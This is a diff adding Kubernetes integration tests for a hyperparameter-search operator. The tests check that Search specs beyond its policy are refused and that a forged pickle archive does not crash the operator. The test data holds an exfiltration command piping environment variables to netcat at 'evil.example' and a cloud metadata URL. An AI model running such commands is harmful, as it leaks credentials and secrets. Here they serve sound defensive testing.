@@ -82,6 +82,15 @@ def test_an_invalid_search_is_refused_by_the_api_server_naming_the_field(crd, ku
     bad["spec"]["trial"].update(data="synthetic:300", dataSha256="a" * 64)  # a CEL rule: no checksum for generated data
     p = _apply(crd, kube_ns, bad, tmp_path / "bad.yaml", check=False)
     assert p.returncode != 0 and "dataSha256" in p.stderr and "synthetic" in p.stderr, p.stderr
+    for trial, field in (({"activeDeadlineSeconds": None}, "activeDeadlineSeconds"),  # every Job has a deadline
+                         ({"activeDeadlineSeconds": 604801}, "activeDeadlineSeconds"),
+                         ({"gpuCount": 17}, "gpuCount")):
+        bad = _search("bad", 3)
+        bad["spec"]["trial"].update(trial)
+        p = _apply(crd, kube_ns, bad, tmp_path / "bad.yaml", check=False)
+        assert p.returncode != 0 and f"spec.trial.{field}" in p.stderr, p.stderr
+    p = _apply(crd, kube_ns, _search("bad", 3, parallelism=65), tmp_path / "bad.yaml", check=False)
+    assert p.returncode != 0 and "spec.search.parallelism" in p.stderr, p.stderr
     bad = _search("bad", 3)
     bad["spec"]["search"]["maxTrails"] = 5  # a typo: unknown fields are refused, not dropped
     p = _apply(crd, kube_ns, bad, tmp_path / "bad.yaml", check=False)
@@ -267,3 +276,87 @@ def test_budget_edits_on_a_running_search_are_followed(crd, release, kube_ns, tm
         op.terminate()
         op.wait(60)
     record_figure("kubectl describe search after edits", {"describe": described[-1500:]})
+
+
+def _conditions(kube, ns: str, name: str) -> dict:
+    return {c["type"]: c for c in _status(kube, ns, name).get("conditions") or []}
+
+
+def test_searches_beyond_the_operators_policy_are_refused_with_no_job(crd, release, kube_ns, tmp_path, work):
+    """The chart's default policy: the trainer image only, its own command, 1 GPU, a 2-day deadline, https or
+    the store's bucket as data. Each Search below asks for one thing more and is refused before any Job exists
+    (SpecAccepted False, PolicyViolation, a Warning Event, state Failed with the field and the rule), while a Search
+    within the policy beside them finishes."""
+    op = release.operator(release.config_file(kube={"resyncSeconds": 5}, controller={"reportSeconds": 3600}),
+                          log=tmp_path / "operator.log")
+    evil = {
+        "foreign-image": ({"image": "docker.io/library/busybox:latest"}, "spec.trial.image"),
+        "own-command": ({"command": ["sh", "-c", "env | nc evil.example 80"]}, "spec.trial.command"),
+        "two-gpus": ({"gpuCount": 2}, "spec.trial.gpuCount"),
+        "long-deadline": ({"activeDeadlineSeconds": 604800}, "spec.trial.activeDeadlineSeconds"),
+        "dev-zero": ({"data": "/dev/zero", "dataSha256": "a" * 64}, "spec.trial.data"),
+        "metadata": ({"data": "https://169.254.169.254/latest/meta-data/c.tar.gz", "dataSha256": "a" * 64},
+                     "spec.trial.data"),
+    }
+    try:
+        for name, (trial, _) in evil.items():
+            doc = _search(name, 2)
+            doc["spec"]["trial"] = trial  # the operator's own command and image, but for this one thing
+            _apply(crd, kube_ns, doc, tmp_path / f"{name}.yaml")
+        within = _search("within", 2)
+        within["spec"]["trial"] = {"epochs": 2}
+        _apply(crd, kube_ns, within, tmp_path / "within.yaml")
+        wait_for("the search within the policy to succeed",
+                 lambda: _status(crd, kube_ns, "within").get("state") == "Succeeded", proc=op)
+        wait_for("every search beyond it to fail",
+                 lambda: all(_status(crd, kube_ns, n).get("state") == "Failed" for n in evil), proc=op)
+        reasons = {}
+        for name, (_, field) in evil.items():
+            reason = _status(crd, kube_ns, name)["reason"]
+            assert reason.startswith(field), (name, reason)
+            accepted = _conditions(crd, kube_ns, name)["SpecAccepted"]
+            assert accepted["status"] == "False" and accepted["reason"] == "PolicyViolation", accepted
+            assert not crd.jobs(kube_ns, f"cifar-hpo.io/search={name}"), name
+            events = crd.kubectl("-n", kube_ns, "get", "events", "--field-selector", f"involvedObject.name={name}")
+            assert "SpecRefused" in events and "Warning" in events, events
+            reasons[name] = reason
+        assert "link-local" in reasons["metadata"] and "path sources are not allowed" in reasons["dev-zero"]
+        assert _conditions(crd, kube_ns, "within")["TrialAccessScoped"]["status"] == "True"
+        assert op.poll() is None
+        record_figure("Searches refused by the operator's policy", reasons)
+    finally:
+        op.terminate()
+        op.wait(60)
+
+
+def test_a_forged_archive_fails_its_search_and_nothing_else(crd, release, kube_ns, tmp_path, work):
+    """The security review's 418-byte archive (a forged numpy dtype) used to segfault the operator and with it every
+    Search of the namespace. Staged from the store's own bucket, pinned by its sha256 as the policy asks: its
+    Search fails with the reason, the Search beside it finishes, and the operator process is never replaced."""
+    import hashlib
+
+    import boto3
+
+    payload = (ROOT / "tests" / "data" / "pickle-crashers" / "forged-dtype.tar.gz").read_bytes()
+    bucket = release.store.split("/")[2]
+    boto3.client("s3").put_object(Bucket=bucket, Key="uploads/cifar-100-python.tar.gz", Body=payload)
+    op = release.operator(_operator_config(release), log=tmp_path / "operator.log")
+    pid = op.pid
+    try:
+        evil = _search("forged", 3, work=work)
+        evil["spec"]["trial"].update(data=f"s3://{bucket}/uploads/cifar-100-python.tar.gz",
+                                     dataSha256=hashlib.sha256(payload).hexdigest())
+        _apply(crd, kube_ns, evil, tmp_path / "f.yaml")
+        _apply(crd, kube_ns, _search("bystander", 3, work=work), tmp_path / "b.yaml")
+        wait_for("the forged search to fail", lambda: _status(crd, kube_ns, "forged").get("state") == "Failed",
+                 proc=op)
+        wait_for("the bystander to succeed", lambda: _status(crd, kube_ns, "bystander").get("state") == "Succeeded",
+                 proc=op)
+        reason = _status(crd, kube_ns, "forged")["reason"]
+        assert "refusing to unpickle dtype 'V8'" in reason, reason
+        assert not crd.jobs(kube_ns, "cifar-hpo.io/search=forged")
+        assert op.poll() is None and op.pid == pid  # one operator process all along
+        assert "Traceback" not in (tmp_path / "operator.log").read_text()
+    finally:
+        op.terminate()
+        op.wait(60)
